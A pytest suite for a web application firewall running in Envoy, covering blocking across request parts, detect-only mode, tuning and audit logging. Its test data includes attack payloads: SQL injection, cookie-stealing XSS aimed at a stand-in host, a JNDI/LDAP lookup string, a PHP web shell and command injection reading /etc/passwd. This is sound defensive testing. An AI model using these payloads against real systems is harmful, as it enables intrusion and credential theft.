"""The WAF in real Envoy: each target type (path, query, headers, cookies, JSON, form, multipart,
XML, raw text bodies), bodies held until the verdict (the upstream never sees a blocked request),
403 problem+json with rule ids and never the payload, detect-only mode, tuning by exclusion and
custom rules, audit records and metrics."""

from __future__ import annotations

import json
import subprocess

import pytest
import requests

import harness
from harness import Listener, chunked, raw_request, request_head

WAF = {"policies": {"default": {"waf": {}}}, "audit": {"log_allowed": True}}
DETECT = {"policies": {"default": {"waf": {"mode": "detect_only"}}}, "audit": {"log_allowed": True}}
TUNED = {
    "policies": {
        "default": {
            "waf": {
                "exclusions": [{"target": "json:$.snippet"}],
                "custom_rules": [
                    {"id": 100001, "targets": ["args"], "operator": "contains", "pattern": "forbidden-word", "score": 5}
                ],
                "allowed_content_types": ["application/hl7-v2"],
            }
        },
        "admin": {"waf": {}},
    },
    "routes": [{"prefix": "/admin", "methods": ["DELETE"], "policy": "admin"}],
}


@pytest.fixture(scope="module")
def envoy(envoys):
    return envoys.start(
        [
            Listener("waf", harness.free_port(), WAF),
            Listener("detect", harness.free_port(), DETECT),
            Listener("tuned", harness.free_port(), TUNED),
        ],
        name="waf",
    )


def assert_blocked(r, echo=None, request_id=None):
    assert r.status_code == 403, r.text
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert body["code"] == "waf_blocked"
    assert body["rules"] and all(isinstance(i, int) for i in body["rules"])
    if echo is not None and request_id is not None:
        assert not echo.requests_with(request_id), "a blocked request reached the upstream"
    return body


def test_benign_requests_pass_and_reach_the_upstream(envoy, echo):
    r = requests.get(envoy.url("waf", "/api/items?page=2&sort=name"), headers={"x-request-id": "ok-1"}, timeout=10)
    assert r.status_code == 200
    r = requests.post(envoy.url("waf", "/api/items"), json={"name": "Blue chair", "notes": "fits the desk"}, headers={"x-request-id": "ok-2"}, timeout=10)
    assert r.status_code == 200
    assert r.json()["body"] == json.dumps({"name": "Blue chair", "notes": "fits the desk"})
    assert echo.requests_with("ok-2")


def test_sql_injection_in_the_query_is_blocked_with_rule_ids_not_the_payload(envoy, echo):
    payload = "1' UNION SELECT password FROM users--"
    r = requests.get(envoy.url("waf", "/search"), params={"q": payload}, headers={"x-request-id": "sqli-1"}, timeout=10)
    body = assert_blocked(r, echo, "sqli-1")
    assert "UNION" not in r.text and "password" not in r.text
    record = envoy.audit_for("sqli-1")
    assert record["reason"] == "waf_blocked"
    assert record["waf"]["score"] >= 5
    sqli = [m for m in record["waf"]["matches"] if m["category"] == "sqli"]
    assert sqli and {m["target"] for m in sqli} == {"args:q"}
    assert "password" not in json.dumps(record)
    assert sorted(body["rules"]) == sorted({m["rule"] for m in record["waf"]["matches"]})


def test_path_traversal_in_the_path_is_blocked(envoy):
    r = raw_request(envoy.address("waf"), request_head("GET", "/files/..%2f..%2f..%2fetc/passwd", []))
    assert r.status == 403 and r.json()["code"] == "waf_blocked"


def test_attacks_in_headers_and_cookies_are_blocked(envoy):
    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"user-agent": "sqlmap/1.7.2#stable"}, timeout=10))
    # (Envoy itself drops a Referer that is not a valid URL, such as `javascript:...`.)
    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"x-return-note": "<img src=x onerror=alert(1)>"}, timeout=10))
    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"cookie": "theme=dark; prefs=${jndi:ldap://198.51.100.1/a}"}, timeout=10))


def test_json_body_attack_is_held_and_never_reaches_the_upstream(envoy, echo):
    r = requests.post(
        envoy.url("waf", "/api/comments"),
        json={"post": 7, "comment": {"text": "<script>document.location='http://x/'+document.cookie</script>"}},
        headers={"x-request-id": "json-1"},
        timeout=10,
    )
    assert_blocked(r, echo, "json-1")
    targets = {m["target"] for m in envoy.audit_for("json-1")["waf"]["matches"]}
    assert "json:$.comment.text" in targets


def test_chunked_body_is_held_until_the_whole_body_is_inspected(envoy, echo):
    body = json.dumps({"filler": "a" * 3000, "cmd": "; cat /etc/passwd"}).encode()
    head = request_head("POST", "/api/run", [("content-type", "application/json"), ("transfer-encoding", "chunked"), ("x-request-id", "chunk-1")])
    r = raw_request(envoy.address("waf"), head, chunked(body, 700))
    assert r.status == 403 and r.json()["code"] == "waf_blocked"
    assert not echo.requests_with("chunk-1")
    ok = json.dumps({"filler": "a" * 3000}).encode()
    head = request_head("POST", "/api/run", [("content-type", "application/json"), ("transfer-encoding", "chunked"), ("x-request-id", "chunk-2")])
    r = raw_request(envoy.address("waf"), head, chunked(ok, 700))
    assert r.status == 200
    assert r.json()["body_bytes"] == len(ok)


def test_form_multipart_and_xml_bodies_are_inspected(envoy):
    assert_blocked(requests.post(envoy.url("waf", "/login"), data={"user": "admin' OR '1'='1' --", "pw": "x"}, timeout=10))
    assert_blocked(
        requests.post(envoy.url("waf", "/upload"), files={"file": ("../../../../etc/passwd", b"hello", "text/plain")}, timeout=10)
    )
    xml = b"<?xml version='1.0'?><order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note><item onload=\"alert(1)\">x</item></order>"
    assert_blocked(requests.post(envoy.url("waf", "/orders"), data=xml, headers={"content-type": "application/xml"}, timeout=10))
    assert_blocked(requests.post(envoy.url("waf", "/notes"), data=b"<?php system($_GET['c']); ?>", headers={"content-type": "text/plain"}, timeout=10))


def test_binary_bodies_are_not_parsed_as_text(envoy, echo):
    blob = bytes(range(256)) * 8 + b"<script>alert(1)</script>"
    r = requests.post(
        envoy.url("waf", "/blob"), data=blob, headers={"content-type": "application/octet-stream", "x-request-id": "bin-1"}, timeout=10
    )
    assert r.status_code == 200
    assert echo.requests_with("bin-1")
    # A file of text under a binary type (a deploy tool's upload) is released uninspected too.
    redirects = b"# old URLs\n/blog/*  /news/:splat  301\n/wp-admin/*  /  301\n"
    r = requests.put(envoy.url("waf", "/files/_redirects"), data=redirects, headers={"content-type": "application/octet-stream"}, timeout=10)
    assert r.status_code == 200, r.text
    # A large binary upload streams through whole (released after its first bytes, no 413).
    big = bytes(range(256)) * 8192
    r = requests.put(envoy.url("waf", "/files/blob.bin"), data=big, headers={"content-type": "image/png"}, timeout=20)
    assert r.status_code == 200, r.text


def test_a_json_document_under_a_binary_type_is_inspected_as_json(envoy, echo):
    # A server that decodes JSON whatever the Content-Type would read these: the declared type
    # is no way around the WAF.
    attack = b'{"user": "admin\' or \'1\'=\'1", "note": "x"}'
    for n, ctype in enumerate(["application/octet-stream", "image/png", "application/x-protobuf"]):
        rid = f"binjson-{n}"
        r = requests.post(envoy.url("waf", "/login"), data=attack, headers={"content-type": ctype, "x-request-id": rid}, timeout=10)
        body = assert_blocked(r, echo, rid)
        assert 4200 in body["rules"]
    # Envoy answers a gRPC request's local reply the gRPC way (HTTP 200, `grpc-status` 7,
    # PERMISSION_DENIED); the request never reaches the upstream.
    r = requests.post(
        envoy.url("waf", "/login"), data=attack, headers={"content-type": "application/grpc", "x-request-id": "binjson-grpc"}, timeout=10
    )
    assert r.headers.get("grpc-status") == "7", (r.status_code, dict(r.headers))
    assert not echo.requests_with("binjson-grpc")
    padded = b" " * 600 + b'[{"q": "<script>alert(1)</script>"}]'
    assert_blocked(requests.post(envoy.url("waf", "/s"), data=padded, headers={"content-type": "application/octet-stream"}, timeout=10))
    benign = b'{"name": "site", "scripts": {"build": "hugo --minify"}}'
    r = requests.put(envoy.url("waf", "/files/package.json"), data=benign, headers={"content-type": "application/octet-stream", "x-request-id": "binjson-ok"}, timeout=10)
    assert r.status_code == 200, r.text
    assert echo.requests_with("binjson-ok")


def test_detect_only_mode_lets_attacks_through_and_records_them(envoy, echo):
    before = envoy.counter("palisade.requests.denied")
    detected = envoy.counter("palisade.waf.detected")
    r = requests.get(envoy.url("detect", "/search"), params={"q": "<script>alert(1)</script>"}, headers={"x-request-id": "det-1"}, timeout=10)
    assert r.status_code == 200
    assert echo.requests_with("det-1")
    record = envoy.audit_for("det-1")
    assert record["decision"] == "allow"
    assert record["waf"]["over_threshold"] is True
    assert record["waf"]["score"] >= 5
    assert envoy.counter("palisade.requests.denied") == before
    assert envoy.counter("palisade.waf.detected") == detected + 1


def test_an_excluded_json_field_and_a_custom_rule_tune_the_waf(envoy):
    snippet = {"snippet": "SELECT name FROM users WHERE id = 1 UNION SELECT 2 --"}
    assert requests.post(envoy.url("tuned", "/kb"), json=snippet, timeout=10).status_code == 200
    assert requests.post(envoy.url("waf", "/kb"), json=snippet, timeout=10).status_code == 403
    r = requests.get(envoy.url("tuned", "/x"), params={"a": "this has a forbidden-word in it"}, timeout=10)
    body = assert_blocked(r)
    assert 100001 in body["rules"]


def test_a_media_type_outside_the_list_is_refused_unless_the_policy_accepts_it(envoy, echo):
    hl7 = "MSH|^~\\&|LABSYS|GENHOSP|EHR|GENHOSP|20261129083000||ORU^R01|MSG00042|P|2.5\rOBX|1|NM|2345-7^Glucose^LN||95|mg/dL|70-99|N|||F\r"
    headers = {"content-type": "application/hl7-v2; charset=utf-8"}
    r = requests.post(envoy.url("waf", "/lab"), data=hl7, headers=dict(headers, **{"x-request-id": "hl7-1"}), timeout=10)
    assert 1010 in assert_blocked(r, echo, "hl7-1")["rules"]
    r = requests.post(envoy.url("tuned", "/lab"), data=hl7, headers=dict(headers, **{"x-request-id": "hl7-2"}), timeout=10)
    assert r.status_code == 200, r.text
    assert r.json()["body"] == hl7
    assert echo.requests_with("hl7-2")


def odata_batch(inner: str, boundary: str = "batch_5f2e") -> bytes:
    return (f"--{boundary}\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n{inner}\r\n--{boundary}--\r\n").encode()


def test_an_odata_batch_passes_and_each_request_in_it_is_inspected(envoy, echo):
    headers = {"content-type": "multipart/mixed; boundary=batch_5f2e"}
    ok = odata_batch("GET Products?$filter=UnitsInStock%20lt%2010&$select=ProductName HTTP/1.1\r\nAccept: application/json\r\n")
    r = requests.post(envoy.url("waf", "/odata/v4/$batch"), data=ok, headers=dict(headers, **{"x-request-id": "batch-1"}), timeout=10)
    assert r.status_code == 200, r.text
    assert r.json()["body"] == ok.decode()
    changeset = "PATCH Orders(7) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n" + json.dumps({"Note": "<script>alert(document.cookie)</script>"})
    for rid, inner, target in [
        ("batch-2", "GET Products?$filter=Name%20eq%20'x'%20union%20select%20password%20from%20users-- HTTP/1.1\r\n", "batch_args:$filter"),
        ("batch-3", changeset, "json:$.Note"),
        ("batch-4", "GET ../../../etc/passwd HTTP/1.1\r\n", "batch_path"),
    ]:
        r = requests.post(envoy.url("waf", "/odata/v4/$batch"), data=odata_batch(inner), headers=dict(headers, **{"x-request-id": rid}), timeout=10)
        assert_blocked(r, echo, rid)
        assert target in {m["target"] for m in envoy.audit_for(rid)["waf"]["matches"]}, rid


def test_a_method_override_passes_where_it_changes_no_decision(envoy, echo):
    # WordPress's REST client sends every PUT as a POST with the method in a header.
    post = {"title": "Opening hours", "content": "<!-- wp:paragraph --><p>Open 9–5.</p><!-- /wp:paragraph -->"}
    headers = {"x-http-method-override": "PUT", "x-request-id": "override-1"}
    r = requests.post(envoy.url("waf", "/wp-json/wp/v2/posts/1043"), json=post, headers=headers, timeout=10)
    assert r.status_code == 200, r.text
    [seen] = echo.requests_with("override-1")
    assert seen["headers"]["x-http-method-override"] == "PUT"
    # Where DELETE selects another route (and policy) than POST, the override is an evasion.
    headers = {"x-http-method-override": "DELETE", "x-request-id": "override-2"}
    r = requests.post(envoy.url("tuned", "/admin/users/3"), headers=headers, timeout=10)
    assert 1015 in assert_blocked(r, echo, "override-2")["rules"]


def test_waf_denials_are_counted_in_metrics(envoy):
    before = envoy.counter("palisade.denied.waf_blocked")
    requests.get(envoy.url("waf", "/"), params={"q": "../../../../etc/shadow"}, timeout=10)
    assert envoy.counter("palisade.denied.waf_blocked") == before + 1
    assert "palisade_denied_waf_blocked" in envoy.prometheus()


def fixture_json_posts(limit: int) -> list[tuple[str, str]]:
    """(uri, body) of the benign fixtures' JSON POSTs, in file order: varied text for the automata."""
    out = []
    for path in sorted((harness.ROOT / "tests" / "fixtures").glob("benign-api*.jsonl")):
        for line in path.read_text().splitlines():
            case = json.loads(line)
            body = case.get("body") or ""
            if case.get("method") == "POST" and body.lstrip().startswith(("{", "[")) and not case.get("body_b64"):
                out.append((case["uri"], body))
    return out[:limit]


def test_the_automata_memory_budget_drops_caches_and_keeps_the_verdicts(envoys):
    """A policy with the smallest automata budget (16 MiB) at PL2: varied JSON bodies make its
    caches outgrow it, Envoy counts the caches dropped, and every request gets the answer the
    default budget gives (the same statuses), attacks included."""
    config = {"policies": {"default": {"waf": {"paranoia_level": 2, "automata_memory_mib": 16}}}}
    roomy_config = {"policies": {"default": {"waf": {"paranoia_level": 2}}}}
    tight = envoys.start([Listener("tight", harness.free_port(), config)], name="waf-tight")
    roomy = envoys.start([Listener("roomy", harness.free_port(), roomy_config)], name="waf-roomy")
    assert tight.counter("palisade.waf.automata_cache_trims") == 0
    posts = fixture_json_posts(900)
    assert len(posts) >= 600
    attacks = ["1' UNION SELECT password FROM users--", "<svg onload=alert(1)>", "; cat /etc/passwd"]
    statuses = {"tight": [], "roomy": []}
    with requests.Session() as tight_session, requests.Session() as roomy_session:
        for i, (uri, body) in enumerate(posts):
            for name, e, s in (("tight", tight, tight_session), ("roomy", roomy, roomy_session)):
                r = s.post(e.url(name, uri), data=body.encode(), headers={"content-type": "application/json"}, timeout=10)
                statuses[name].append(r.status_code)
            if i % 150 == 149 and tight.counter("palisade.waf.automata_cache_trims") > 0:
                break
        trims = tight.counter("palisade.waf.automata_cache_trims")
        assert trims > 0, f"no cache dropped after {len(statuses['tight'])} varied bodies"
        for q in attacks:
            for name, e, s in (("tight", tight, tight_session), ("roomy", roomy, roomy_session)):
                r = s.post(e.url(name, "/api/search"), json={"q": q}, timeout=10)
                statuses[name].append(r.status_code)
                assert_blocked(r)
    assert statuses["tight"] == statuses["roomy"]
    assert statuses["tight"].count(200) > 0.6 * len(statuses["tight"])
    assert roomy.counter("palisade.waf.automata_cache_trims") == 0
    assert "palisade_waf_automata_cache_trims" in tight.prometheus()


def test_the_rollout_examples_detect_then_block_as_documented(envoys, echo):
    """examples/waf-detect-only.json lets attacks through, counts them and audits them although it
    does not log allowed requests; examples/waf-tuned.json blocks them, with its exclusions, custom
    rule and detect-only webhook route working as docs/waf.md describes."""
    detect = json.loads((harness.ROOT / "examples" / "waf-detect-only.json").read_text())
    tuned = json.loads((harness.ROOT / "examples" / "waf-tuned.json").read_text())
    d = envoys.start([Listener("detect", harness.free_port(), detect)], name="rollout-detect")
    t = envoys.start([Listener("tuned", harness.free_port(), tuned)], name="rollout-tuned")
    attack = "1' UNION SELECT password FROM users--"

    before = d.counter("palisade.waf.detected")
    log_start = d.log_path.stat().st_size
    r = requests.get(d.url("detect", "/search"), params={"q": "blue chairs"}, headers={"x-request-id": "roll-0"}, timeout=10)
    assert r.status_code == 200
    r = requests.get(d.url("detect", "/search"), params={"q": attack}, headers={"x-request-id": "roll-1"}, timeout=10)
    assert r.status_code == 200 and echo.requests_with("roll-1")
    record = d.audit_for("roll-1")
    assert record["decision"] == "allow" and record["waf"]["over_threshold"] is True
    assert d.counter("palisade.waf.detected") == before + 1
    assert [a["request_id"] for a in d.audit_records(log_start)] == ["roll-1"], "allowed requests are not logged"

    r = requests.get(t.url("tuned", "/search"), params={"q": attack}, headers={"x-request-id": "roll-2"}, timeout=10)
    assert_blocked(r, echo, "roll-2")
    snippet = "SELECT name FROM users WHERE id = 1 UNION SELECT 2 --"
    assert requests.post(t.url("tuned", "/reviews"), json={"comment": snippet}, timeout=10).status_code == 200
    assert_blocked(requests.post(t.url("tuned", "/reviews"), json={"title": snippet}, timeout=10))
    r = requests.get(t.url("tuned", "/x"), params={"filter": "__PROTO__[admin]"}, timeout=10)
    assert 100001 in assert_blocked(r)["rules"]
    soda = {"$where": "created_date >= '2026-11-01T00:00:00' AND complaint_type = 'Noise - Residential'"}
    assert requests.get(t.url("tuned", "/resource/erm2-nwe9.json"), params=soda, timeout=10).status_code == 200
    r = requests.post(t.url("tuned", "/webhooks/github"), json={"q": attack}, headers={"x-request-id": "roll-3"}, timeout=10)
    assert r.status_code == 200 and echo.requests_with("roll-3")
    assert t.counter("palisade.waf.detected") == 1


def test_tune_proposes_exclusions_from_a_detect_only_log_and_they_work_in_block_mode(envoys, echo, tmp_path):
    """`palisade tune` reads Envoy's log of a detect-only period: a field that trips the SQL rules
    for many clients gets one exclusion (array indices made a wildcard); a one-off from a single
    client is held back. The tuned configuration, switched to block mode, lets that field through
    and still blocks the same text in other fields and the one-off."""
    cli = harness.ROOT / "target" / "release" / "palisade"
    if not cli.exists():
        pytest.skip("the CLI is not built (make cli)")
    config = {
        "client_ip": {"source": "x_forwarded_for", "trusted_hops": 1},
        "policies": {"default": {"waf": {"mode": "detect_only"}}},
    }
    d = envoys.start([Listener("detect", harness.free_port(), config)], name="tune-detect")
    snippet = "SELECT name FROM users WHERE id = 1 UNION SELECT 2 --"
    start = d.log_size()
    for i in range(4):
        posts = [{"title": f"post {j}", "body": "plain words"} for j in range(i)] + [{"title": "SQL tips", "body": snippet}]
        r = requests.post(d.url("detect", "/forum"), json={"posts": posts},
                          headers={"x-forwarded-for": f"192.0.2.{10 + i}", "x-request-id": f"tune-{i}"}, timeout=10)
        assert r.status_code == 200
    one_off = "1' UNION SELECT password FROM users--"
    r = requests.get(d.url("detect", "/search"), params={"q": one_off},
                     headers={"x-forwarded-for": "198.51.100.7", "x-request-id": "tune-x"}, timeout=10)
    assert r.status_code == 200
    d.audit_for("tune-x", since=start)
    log = tmp_path / "envoy.log"
    with open(d.log_path, "rb") as f:
        f.seek(start)
        log.write_bytes(f.read())
    cfg = tmp_path / "palisade.json"
    cfg.write_text(json.dumps(config))
    out = tmp_path / "tuned.json"
    p = subprocess.run([str(cli), "tune", "--config", str(cfg), "--out", str(out), "--format", "json", str(log)],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout)
    assert report["over_threshold"] == 5
    proposed = {(x["target"], x["requests"], x["clients"]) for x in report["proposals"]}
    assert proposed == {("json:$.posts[*].body", 4, 4)}, report
    assert report["proposals"][0]["categories"] == ["sqli"]
    held = {(h["category"], h["target"]) for h in report["held"]}
    assert ("sqli", "args:q") in held, held
    assert not any(t.startswith("json:") for _, t in held), held
    assert report["would_pass"] == 4
    assert report["exclusions_to_add"] == {"default": [{"target": "json:$.posts[*].body", "tags": ["sqli"]}]}

    tuned = json.loads(out.read_text())
    tuned["policies"]["default"]["waf"]["mode"] = "block"
    b = envoys.start([Listener("tuned", harness.free_port(), tuned)], name="tune-block")
    posts = [{"title": "a", "body": "b"}, {"title": "c", "body": "d"}, {"title": "SQL tips", "body": snippet}]
    r = requests.post(b.url("tuned", "/forum"), json={"posts": posts}, headers={"x-request-id": "tune-ok"}, timeout=10)
    assert r.status_code == 200 and echo.requests_with("tune-ok"), r.text
    assert_blocked(requests.post(b.url("tuned", "/forum"), json={"posts": [{"title": snippet}]}, timeout=10))
    assert_blocked(requests.get(b.url("tuned", "/search"), params={"q": one_off}, timeout=10))
